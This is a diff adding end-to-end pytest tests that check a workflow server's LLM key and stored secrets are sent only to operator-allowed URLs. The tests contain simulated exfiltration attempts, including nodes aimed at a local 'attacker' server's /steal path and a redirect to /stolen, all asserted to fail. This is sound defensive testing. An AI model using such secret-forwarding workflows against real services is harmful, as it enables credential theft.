@@ -15,8 +15,13 @@ from typing import Any
 
 import httpx
 import pytest
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import JSONResponse, RedirectResponse, Response
+from starlette.routing import Route
 
 from tests.e2e.server import Server, finished, wait_for
+from tests.local_server import serve
 
 
 @dataclass
@@ -266,3 +271,108 @@ def test_process_mode_is_announced_as_weaker(server_factory: Callable[..., Serve
     assert "code sandbox: process (WEAKER" in server.log.read_text()
     node = run_code(server.client(key), "def main():\n    return {'text': 'ran'}")
     assert node["outputs"] == {"text": "ran"}
+
+
+# --- secrets ------------------------------------------------------------------------
+
+class Capture:
+    """An HTTP server that records what it is sent (a legitimate API or an attacker)."""
+
+    def __init__(self) -> None:
+        self.seen: list[dict[str, str]] = []
+        self.redirect_to = ""
+
+    def app(self) -> Starlette:
+        async def record(request: Request) -> Response:
+            self.seen.append({"path": request.url.path, **dict(request.headers)})
+            if request.url.path.endswith("/redirect"):
+                return RedirectResponse(self.redirect_to, status_code=302)
+            if request.url.path.endswith("/chat/completions"):
+                return JSONResponse({"choices": [{"message": {"content": "ok"},
+                                                  "finish_reason": "stop"}], "usage": {}})
+            return JSONResponse({"headers": dict(request.headers)})
+
+        return Starlette(routes=[Route("/{path:path}", record, methods=["GET", "POST"])])
+
+    def sent(self, needle: str) -> bool:
+        return any(needle in json.dumps(s) for s in self.seen)
+
+
+@pytest.fixture
+def apis() -> Iterator[tuple[Capture, str, Capture, str]]:
+    """(the real API, its URL, an attacker's server, its URL)."""
+    api, attacker = Capture(), Capture()
+    with serve(api.app()) as api_url, serve(attacker.app()) as attacker_url:
+        api.redirect_to = f"{attacker_url}/stolen"
+        yield api, api_url, attacker, attacker_url
+
+
+SERVER_LLM_KEY = "sk-operators-own-llm-key-0001"
+TOKEN = "tok-5a8d9e61c2f04b7f"
+
+
+def test_the_servers_llm_key_goes_only_to_the_configured_url(
+        server_factory: Callable[..., Server], apis: tuple[Capture, str, Capture, str]) -> None:
+    api, api_url, attacker, attacker_url = apis
+    server = server_factory({"FLOWRUN_LLM_BASE_URL": f"{api_url}/v1",
+                             "FLOWRUN_LLM_API_KEY": SERVER_LLM_KEY,
+                             "FLOWRUN_HTTP_ALLOWED_NETWORKS": "127.0.0.1/32"})
+    key = server.create_key()
+    server.start()
+    client = server.client(key)
+    graph = {"inputs": {"name": "x"}, "nodes": [
+        {"id": "greet", "type": "llm", "prompt": "hi", "base_url": f"{attacker_url}/v1"}]}
+    run = client.post("/workflows/hello/run-sync", json=graph).json()
+    assert attacker.seen and not attacker.sent(SERVER_LLM_KEY)
+    ok = {"inputs": {"name": "x"}, "nodes": [{"id": "greet", "type": "llm", "prompt": "hi"}]}
+    run = client.post("/workflows/hello/run-sync", json=ok).json()
+    assert api.sent(SERVER_LLM_KEY), run  # the configured API does get it
+    assert SERVER_LLM_KEY not in json.dumps(run)
+
+
+def test_secrets_go_only_where_the_operator_allowed(
+        server_factory: Callable[..., Server], apis: tuple[Capture, str, Capture, str]) -> None:
+    api, api_url, attacker, attacker_url = apis
+    server = server_factory({"FLOWRUN_HTTP_ALLOWED_NETWORKS": "127.0.0.1/32"})
+    admin, runner = server.client(server.admin_key()), server.client(server.create_key())
+    server.start("--log-level", "debug")
+    body = {"value": TOKEN, "allowed_urls": [f"{api_url}/ok"]}
+    assert runner.put("/secrets/TOKEN", json=body).status_code == 403
+    assert admin.put("/secrets/TOKEN", json=body).status_code == 201
+    assert admin.put("/secrets/bad-name", json=body).status_code == 400
+    assert admin.put("/secrets/X", json={"value": "v", "allowed_urls": ["ftp://x"]}
+                     ).status_code == 400
+    assert runner.get("/secrets").status_code == 403
+    assert TOKEN not in admin.get("/secrets").text
+
+    def call(url: str) -> dict[str, Any]:
+        graph = {"inputs": {"name": "x"}, "nodes": [
+            {"id": "greet", "type": "http", "url": url,
+             "headers": {"Authorization": "Bearer {{ secrets.TOKEN }}"}}]}
+        return dict(runner.post("/workflows/hello/run-sync", json=graph).json())
+
+    good = call(f"{api_url}/ok/echo")
+    assert api.sent(TOKEN)  # it reached the API it is for
+    node = good["nodes"][0]
+    assert node["status"] == "succeeded", node
+    assert node["inputs"]["headers"]["Authorization"] == "Bearer [[secret:TOKEN]]"
+    assert node["outputs"]["body"]["headers"]["authorization"] == "Bearer [[secret:TOKEN]]"
+    for url in (f"{attacker_url}/steal", f"{api_url}/elsewhere", f"{api_url}/ok/redirect",
+                f"{api_url}/okay"):
+        bad = call(url)
+        assert bad["status"] == "failed" and bad["error"]["code"] == "secret_not_allowed", bad
+    assert not attacker.sent(TOKEN)
+    code = {"inputs": {"name": "x"}, "nodes": [
+        {"id": "greet", "type": "code", "code": "def main(t):\n    return {'text': t}",
+         "inputs": {"t": "{{ secrets.TOKEN }}"}}]}
+    leaked = runner.post("/workflows/hello/run-sync", json=code).json()
+    assert leaked["outputs"] == {"greeting": "[[secret:TOKEN]]"}
+    for run in (good, leaked):
+        events = runner.get(f"/runs/{run['id']}/events").text
+        assert TOKEN not in events and TOKEN not in json.dumps(runner.get(
+            f"/runs/{run['id']}").json())
+    assert TOKEN not in server.log.read_text()
+    assert call(f"{api_url}/ok/echo")["nodes"][0]["status"] == "succeeded"
+    assert admin.delete("/secrets/TOKEN").status_code == 204
+    gone_secret = call(f"{api_url}/ok/echo")
+    assert gone_secret["error"]["code"] == "secret_not_found", gone_secret
